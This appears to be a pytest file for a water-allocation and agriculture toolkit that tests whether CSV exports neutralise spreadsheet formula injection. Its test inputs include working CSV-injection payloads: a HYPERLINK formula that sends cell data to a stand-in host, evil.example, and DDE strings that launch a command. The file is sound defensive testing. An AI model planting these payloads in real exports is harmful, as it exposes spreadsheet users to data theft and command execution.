"""CSV exports for people never carry a formula a spreadsheet would run (OWASP CSV injection)."""

import csv
import json
from io import StringIO
from pathlib import Path

import pandas as pd
import pytest
import yaml
from typer.testing import CliRunner

from suvar.agri.cli import app as agri_app
from suvar.agri.weather import synthetic_weather
from suvar.allocation.cli import app as allocate_app
from suvar.csv_export import FORMULA_STARTS, neutralise, safe_cell

DATA = Path(__file__).parent / "data"
ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
runner = CliRunner()


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]


def _assert_inert(text: str) -> None:
    """No cell of the CSV text starts a formula, unless it is a plain number."""
    for cell in _cells(text):
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # raises for anything that is not a plain number


@pytest.mark.parametrize("attack", ATTACKS)
def test_safe_cell_prefixes_formulas(attack: str) -> None:
    assert safe_cell(attack) == "'" + attack.replace("\r", "\n")


def test_carriage_return_cannot_start_a_row() -> None:
    """pandas leaves a field with a bare CR unquoted; a spreadsheet would start a row there with a formula."""
    frame = pd.DataFrame({"note": ["ok\r=cmd|' /C calc'!A0", "fine"]})
    assert "\r=cmd" in frame.to_csv(index=False)  # what an unprotected export writes
    text = neutralise(frame).to_csv(index=False)
    _assert_inert(text)
    assert pd.read_csv(StringIO(text))["note"].tolist() == ["ok\n=cmd|' /C calc'!A0", "fine"]


@pytest.mark.parametrize("value", ["-3.5", "+1e3", "-0", ".5", "plain", "", "café", 12, -4.0, None])
def test_safe_cell_keeps_numbers_and_plain_text(value: object) -> None:
    assert safe_cell(value) == value or (value != value)  # noqa: PLR0124 - NaN


def test_neutralise_cells_headers_index_but_not_numbers() -> None:
    frame = pd.DataFrame({"user": ATTACKS, ATTACKS[0]: range(6), "value": [-1.5] * 6,
                          "kind": pd.Categorical(["=x", "y", "=x", "y", "y", "y"])},
                         index=pd.Index(ATTACKS[::-1], name="@who"))
    text = neutralise(frame).to_csv()
    _assert_inert(text)
    back = pd.read_csv(StringIO(text), index_col=0)
    assert back["user"].tolist() == ["'" + a.replace("\r", "\n") for a in ATTACKS]
    assert back["value"].tolist() == [-1.5] * 6 and back[f"'{ATTACKS[0]}"].tolist() == list(range(6))
    assert back.index.name == "'@who"
    assert frame["user"].tolist() == ATTACKS  # the caller's frame is left alone


def test_allocation_explanation_csv(tmp_path: Path) -> None:
    """User and body names from an uploaded basin file reach `suvar allocate run --explain` inert."""
    basin = yaml.safe_load((DATA / "allocation" / "small_river.yaml").read_text())
    rename = {"town_a": ATTACKS[0], "farms_b": ATTACKS[3]}
    for link in basin["links"]:
        link["to"] = rename.get(link["to"], link["to"])
    for demand in basin["demands"]:
        demand["id"] = rename[demand["id"]]
        demand["body"] = ATTACKS[1]
    path = tmp_path / "basin.json"
    path.write_text(json.dumps(basin, default=str))
    out = tmp_path / "explain.csv"
    result = runner.invoke(allocate_app, ["run", str(path), "--explain", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_text()
    _assert_inert(text)
    table = pd.read_csv(out)
    assert set(table["user"]) == {"'" + ATTACKS[0], "'" + ATTACKS[3]} and set(table["body"]) == {"'" + ATTACKS[1]}


def test_agri_demand_csv(tmp_path: Path) -> None:
    """Field names from an uploaded district file become CSV column headers: inert too."""
    district = json.loads((DATA / "agri" / "district_lower_plain.json").read_text())
    district["fields"][0]["name"] = ATTACKS[2]
    path = tmp_path / "district.json"
    path.write_text(json.dumps(district))
    weather = tmp_path / "weather.csv"
    synthetic_weather("2019-01-01", years=1, seed=5, latitude_deg=39.0, elevation_m=150.0).to_csv(weather)
    result = runner.invoke(agri_app, ["demand", str(path), str(weather)])
    assert result.exit_code == 0, result.output
    _assert_inert(result.stdout)
    header = next(csv.reader(StringIO(result.stdout)))
    assert "'" + ATTACKS[2] in header
